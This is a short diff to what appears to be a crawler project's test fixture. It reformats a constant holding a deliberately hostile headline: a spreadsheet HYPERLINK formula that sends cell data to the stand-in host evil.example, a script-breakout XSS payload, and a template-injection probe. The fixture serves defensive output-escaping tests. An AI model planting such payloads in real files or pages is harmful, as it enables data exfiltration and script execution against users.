@@ -22,7 +22,9 @@ from crawler.items import (
     Source,
 )
 
-HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Open") </script><img src=x onerror=alert(1)> **bold** [a](b) & {{7*7}}'
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Open") </script><img src=x onerror=alert(1)> **bold** [a](b) & {{7*7}}'
+)
 """A headline that a careless format would run: formula, script, Markdown, template."""
 
 PEOPLE: tuple[tuple[str, str, str, str | None, str | None, str], ...] = (
